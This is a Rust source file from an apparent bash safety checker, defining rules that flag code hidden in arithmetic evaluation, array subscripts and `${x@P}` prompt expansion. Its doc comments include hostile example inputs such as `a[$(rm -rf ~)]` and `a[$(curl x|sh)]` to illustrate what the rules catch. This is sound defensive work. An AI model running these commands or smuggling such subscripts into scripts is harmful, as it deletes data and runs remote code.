//! BG211–BG212: places where bash evaluates text as code outside any `eval`:
//! arithmetic evaluation (array subscripts in it run `$(…)`) and prompt expansion
//! (`${x@P}`).

use crate::declare_rule;
use crate::model::ARITHMETIC;
use crate::model::command::{Origin, SimpleCommand};
use crate::model::word::Part;
use crate::rules::Checker;

declare_rule! {
    /// ## What it does
    /// Asks when text only known at run time reaches arithmetic evaluation: `$((…))`,
    /// `((…))`, `let`, `declare -i`, `[[ a -eq b ]]` and the other arithmetic
    /// comparisons, `[[ -v … ]]`, `test -v`, array-element names given to `unset`,
    /// `read` or `printf -v`, array subscripts (`${a[n]}`, `a[n]=1`), substring
    /// offsets (`${x:n}`), assignments to a variable declared `-i`, and the name an
    /// indirect expansion (`${!x}`) or a nameref (`declare -n`) names. Static text
    /// that holds an expansion is walked as a
    /// nested script instead, and its commands are judged like any other
    /// (`x='a[$(rm -rf ~)]'; echo $((x))` is judged as `rm -rf ~`). Plain numbers,
    /// plain names, variables proven numbers (`n=$(nproc)`, `for i in 1 2 3`) and the
    /// caller's own environment are not code.
    ///
    /// ## Why
    /// Bash evaluates array subscripts inside arithmetic, and a subscript may hold
    /// `$(…)`: `read n < f; echo $((n))` runs whatever `f` says when it holds
    /// `a[$(curl x|sh)]`.
    ///
    /// ## Example
    /// - `read n < count.txt; echo $((n + 1))` → ask
    /// - `echo $(( $(cat n.txt) + 1 ))` → ask
    /// - `x='a[$(rm -rf ~)]'; echo $((x))` → deny (BG103, BG202): the subscript's
    ///   command is judged
    /// - `x='a[$(rm -rf ~)]'; echo ${!x}` → deny (BG103, BG202)
    /// - `read -r x; echo ${!x}` → ask
    /// - `n=$(nproc); echo $((n * 2))` → allow
    /// - `for i in 1 2 3; do echo $((i * 2)); done` → allow
    pub static ARITHMETIC_CODE = {
        code: "BG211",
        name: "arithmetic-code",
        default: Ask,
        capability: ShellExpansion,
        summary: "text only known at run time is evaluated as arithmetic (subscripts run code)",
    };
}

declare_rule! {
    /// ## What it does
    /// Asks for the prompt and escape transformations `${x@P}` and `${x@E}`:
    /// `@P` expands the value as a prompt string, which runs any `$(…)` in it.
    ///
    /// ## Why
    /// `${x@P}` is an `eval` in disguise: `x='$(rm -rf ~)'; echo "${x@P}"` runs
    /// the command.
    ///
    /// ## Example
    /// - `echo "${x@P}"` → ask
    /// - `echo "${x@Q}"` → allow: quoting runs nothing
    pub static PROMPT_EXPANSION = {
        code: "BG212",
        name: "prompt-expansion",
        default: Ask,
        capability: ShellExpansion,
        summary: "`${x@P}` expands a value as a prompt, running the code in it",
    };
}

/// Asks for unknown text reaching arithmetic, and for `${x@P}` / `${x@E}`.
pub fn check(cmd: &SimpleCommand, cx: &mut Checker) {
    if let Origin::Embedded(by) = &cmd.origin
        && by == ARITHMETIC
    {
        if cmd.script.is_none() {
            cx.report(
                &ARITHMETIC_CODE,
                cmd.span,
                "text only known at run time is evaluated as arithmetic: an array subscript in it can run commands".to_string(),
            );
        }
        return;
    }
    let words = cmd
        .words
        .iter()
        .chain(cmd.assignments.iter().filter_map(|a| a.value.as_ref()))
        .chain(cmd.redirects.iter().filter_map(|r| r.target.as_ref()));
    for word in words {
        let expands = word
            .parts
            .iter()
            .any(|p| matches!(p, Part::Expansion { .. } | Part::Unknown(_)));
        if !expands {
            continue;
        }
        let text = cx.source.get(word.span.start..word.span.end).unwrap_or("");
        if text.contains("@P}") || text.contains("@E}") {
            cx.report(
                &PROMPT_EXPANSION,
                word.span,
                "expands a value as a prompt string (`@P`/`@E`), running the code in it"
                    .to_string(),
            );
        }
    }
}
